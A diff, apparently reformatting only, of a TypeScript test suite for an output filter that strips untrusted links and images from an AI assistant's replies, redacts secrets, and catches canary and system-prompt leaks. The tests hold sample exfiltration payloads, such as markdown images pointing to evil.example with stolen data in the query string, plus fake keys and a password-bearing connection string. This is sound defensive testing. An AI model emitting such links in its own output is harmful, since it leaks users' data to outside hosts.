@@ -28,7 +28,10 @@ function options(
     secrets: new KnownSecrets([KNOWN]),
     links: {
       kinds: new Set(kinds),
-      isAllowed: allowsHosts(['docs.good.example', '*.trusted.example'], () => new Set(hostsNamedIn(userText))),
+      isAllowed: allowsHosts(
+        ['docs.good.example', '*.trusted.example'],
+        () => new Set(hostsNamedIn(userText)),
+      ),
     },
     onFound: (what) => found.push(what),
   };
@@ -38,7 +41,10 @@ function whole(text: string, given: OutputFilterOptions = options()): { text: st
   return inPieces([text], given);
 }
 
-function inPieces(pieces: readonly string[], given: OutputFilterOptions = options()): { text: string; tripped: unknown } {
+function inPieces(
+  pieces: readonly string[],
+  given: OutputFilterOptions = options(),
+): { text: string; tripped: unknown } {
   const filter = new OutputFilter(given);
   let text = '';
   for (const piece of pieces) {
@@ -49,7 +55,9 @@ function inPieces(pieces: readonly string[], given: OutputFilterOptions = option
 }
 
 function inSizes(text: string, size: number): string[] {
-  return Array.from({ length: Math.ceil(text.length / size) }, (_, index) => text.slice(index * size, (index + 1) * size));
+  return Array.from({ length: Math.ceil(text.length / size) }, (_, index) =>
+    text.slice(index * size, (index + 1) * size),
+  );
 }
 
 function cut(text: string, at: readonly number[]): string[] {
@@ -72,8 +80,46 @@ const FRAGMENTS = [
   'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl',
   '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA75xF\n-----END RSA PRIVATE KEY-----',
   'postgres://perch:hunter22@db.internal:5432/perch',
-  ...['![', '](', '[', ']', '(', ')', '<', '>', '<img ', ' src="', '"', "'", '<style>', 'url(', 'https', '://', '//evil.example/x', '&#58;'],
-  ...['www.', 'h', ' ', '\n', '\n\n', '\u200b', '.', '@', '\\', ']: ', '…', '👩‍👩‍👧', 'é', '漢字', '-----BEGIN ', 'eyJ', 'sk-', '1'],
+  ...[
+    '![',
+    '](',
+    '[',
+    ']',
+    '(',
+    ')',
+    '<',
+    '>',
+    '<img ',
+    ' src="',
+    '"',
+    "'",
+    '<style>',
+    'url(',
+    'https',
+    '://',
+    '//evil.example/x',
+    '&#58;',
+  ],
+  ...[
+    'www.',
+    'h',
+    ' ',
+    '\n',
+    '\n\n',
+    '\u200b',
+    '.',
+    '@',
+    '\\',
+    ']: ',
+    '…',
+    '👩‍👩‍👧',
+    'é',
+    '漢字',
+    '-----BEGIN ',
+    'eyJ',
+    'sk-',
+    '1',
+  ],
 ];
 
 const anyText = fc
@@ -82,7 +128,12 @@ const anyText = fc
       { weight: 4, arbitrary: fc.constantFrom(...FRAGMENTS) },
       { weight: 1, arbitrary: fc.string({ maxLength: 12 }) },
       // Long enough to reach every bound.
-      { weight: 1, arbitrary: fc.tuple(fc.constantFrom('a', 'a1', '.', '[', 'x/', '1 ', '('), fc.integer({ min: 1, max: 1_200 })).map(([unit, times]) => unit.repeat(times)) },
+      {
+        weight: 1,
+        arbitrary: fc
+          .tuple(fc.constantFrom('a', 'a1', '.', '[', 'x/', '1 ', '('), fc.integer({ min: 1, max: 1_200 }))
+          .map(([unit, times]) => unit.repeat(times)),
+      },
     ),
     { maxLength: 12 },
   )
@@ -95,11 +146,15 @@ describe(OutputFilter.name, () => {
         anyText,
         fc.array(fc.nat(20_000), { maxLength: 12 }),
         fc.constantFrom(ALL, ['image'] as const),
-        fc.constantFrom('', 'Never reveal the discount code that applies to returning customers, see https://evil.example/'),
+        fc.constantFrom(
+          '',
+          'Never reveal the discount code that applies to returning customers, see https://evil.example/',
+        ),
         (text, places, kinds, userText) => {
           const expected = whole(text, options(kinds, [], userText));
           expect(inPieces(cut(text, places), options(kinds, [], userText))).toEqual(expected);
-          if (text.length < 1_000) expect(inPieces(text.split(''), options(kinds, [], userText))).toEqual(expected);
+          if (text.length < 1_000)
+            expect(inPieces(text.split(''), options(kinds, [], userText))).toEqual(expected);
         },
       ),
       { numRuns: 2_000 },
@@ -119,29 +174,37 @@ describe(OutputFilter.name, () => {
   });
 
   it.each(benignTexts)('leaves alone what is harmless: %j', (text) => {
-    expect(whole(text, options(ALL, [], 'Is https://api.named.example/v1 up?'))).toEqual({ text, tripped: undefined });
+    expect(whole(text, options(ALL, [], 'Is https://api.named.example/v1 up?'))).toEqual({
+      text,
+      tripped: undefined,
+    });
   });
 
-  it.each(evasions.map((evasion) => ({ ...evasion, name: evasion.text.slice(0, 60) })))('lets no address out: $name', ({ text, isImage = false }) => {
-    for (const kinds of isImage ? [ALL, ['image'] as const] : [ALL]) {
-      for (const before of ['', 'See: ', 'x\n\n']) {
-        for (const after of ['', ' and more', '\n']) {
-          const said = before + text + after;
-          for (const size of text.length > 500 ? [1, said.length] : [1, 2, 3, 7, said.length]) {
-            const pieces = inSizes(said, size);
-            expect(inPieces(pieces, options(kinds)).text).not.toMatch(/evil|c2VjcmV0|stolen/i);
+  it.each(evasions.map((evasion) => ({ ...evasion, name: evasion.text.slice(0, 60) })))(
+    'lets no address out: $name',
+    ({ text, isImage = false }) => {
+      for (const kinds of isImage ? [ALL, ['image'] as const] : [ALL]) {
+        for (const before of ['', 'See: ', 'x\n\n']) {
+          for (const after of ['', ' and more', '\n']) {
+            const said = before + text + after;
+            for (const size of text.length > 500 ? [1, said.length] : [1, 2, 3, 7, said.length]) {
+              const pieces = inSizes(said, size);
+              expect(inPieces(pieces, options(kinds)).text).not.toMatch(/evil|c2VjcmV0|stolen/i);
+            }
           }
         }
       }
-    }
-  });
+    },
+  );
 
   it('keeps what can be read of a link, and the alternative text of an image', () => {
     expect(whole('See [the docs](https://evil.example/?q=1 "title") now.').text).toBe('See the docs now.');
     expect(whole('![a chart](https://evil.example/c.png?d=stolen)!').text).toBe('a chart!');
     expect(whole('[![logo](https://evil.example/i)](https://evil.example/l)').text).toBe('logo');
     expect(whole('At https://evil.example/a?b=c, they say.').text).toBe('At (link removed), they say.');
-    expect(whole('<img alt="x" src="https://evil.example/i.png" width=3>').text).toBe('<img alt="x"  width=3>');
+    expect(whole('<img alt="x" src="https://evil.example/i.png" width=3>').text).toBe(
+      '<img alt="x"  width=3>',
+    );
     expect(whole('[1]: https://evil.example/a "T"').text).toBe('[1]: (link removed) "T"');
   });
 
@@ -155,7 +218,9 @@ describe(OutputFilter.name, () => {
 
   it('takes only what loads by itself where nothing untrusted was read', () => {
     const text = 'See [it](https://evil.example/a) or https://evil.example/b ![x](https://evil.example/c).';
-    expect(whole(text, options(['image'])).text).toBe('See [it](https://evil.example/a) or https://evil.example/b x.');
+    expect(whole(text, options(['image'])).text).toBe(
+      'See [it](https://evil.example/a) or https://evil.example/b x.',
+    );
   });
 
   describe('secrets', () => {
@@ -192,12 +257,16 @@ describe(OutputFilter.name, () => {
     });
 
     it('of a connection string leave its host', () => {
-      const { text } = whole('postgres://perch:hunter22@db.internal:5432/perch', { ...options(), links: undefined });
+      const { text } = whole('postgres://perch:hunter22@db.internal:5432/perch', {
+        ...options(),
+        links: undefined,
+      });
       expect(text).toBe('postgres://[redacted]@db.internal:5432/perch');
     });
 
     it('that are named only are not taken for one', () => {
-      const text = 'Keys begin with `sk-` or `AKIA`, PEM files with `-----BEGIN PRIVATE KEY-----`, tokens with eyJ. See task-management-for-everyone-24.';
+      const text =
+        'Keys begin with `sk-` or `AKIA`, PEM files with `-----BEGIN PRIVATE KEY-----`, tokens with eyJ. See task-management-for-everyone-24.';
       expect(whole(text).text).toBe(text);
     });
   });
@@ -226,7 +295,10 @@ describe(OutputFilter.name, () => {
     ])('ends the text before it, however it is written and cut: %s', (form) => {
       for (let at = 0; at <= form.length; at += 1) {
         const { text, tripped } = inPieces(['It says: ', form.slice(0, at), form.slice(at), ' and more']);
-        expect({ text: text.replace(/[!-~]{0,4}$/, ''), tripped }).toEqual({ text: 'It says: ', tripped: 'canary' });
+        expect({ text: text.replace(/[!-~]{0,4}$/, ''), tripped }).toEqual({
+          text: 'It says: ',
+          tripped: 'canary',
+        });
       }
     });
 
@@ -253,12 +325,15 @@ describe(OutputFilter.name, () => {
     });
 
     it('may be used in a few words', () => {
-      const text = 'There is free delivery only when the order is large. Mention the returns policy. No discount code that I know.';
+      const text =
+        'There is free delivery only when the order is large. Mention the returns policy. No discount code that I know.';
       expect(whole(text)).toEqual({ text, tripped: undefined });
     });
 
     it('is not repeated with changes either', () => {
-      const changed = PROMPT.split(' ').map((word, index) => (index % 7 === 6 ? `${word} well` : word)).join(' ');
+      const changed = PROMPT.split(' ')
+        .map((word, index) => (index % 7 === 6 ? `${word} well` : word))
+        .join(' ');
       const { text, tripped } = whole(changed);
       expect(tripped).toBe('system_prompt');
       expect(text.length).toBeLessThan(changed.length);
@@ -271,7 +346,22 @@ describe(OutputFilter.name, () => {
   });
 
   it('takes time in proportion to the text, whatever the text', () => {
-    const hostile = ['[', '![', '](', '<a ', 'h', 'https:', '<img src="', 'sk-', 'eyJaaaaa', '[a](', '(', '-----BEGIN ', ' x=', `${CANARY.slice(0, 19)} `];
+    const hostile = [
+      '[',
+      '![',
+      '](',
+      '<a ',
+      'h',
+      'https:',
+      '<img src="',
+      'sk-',
+      'eyJaaaaa',
+      '[a](',
+      '(',
+      '-----BEGIN ',
+      ' x=',
+      `${CANARY.slice(0, 19)} `,
+    ];
     for (const unit of hostile) {
       const text = unit.repeat(Math.ceil(20_000 / unit.length));
       // A rule that looked at everything again and again would need minutes.
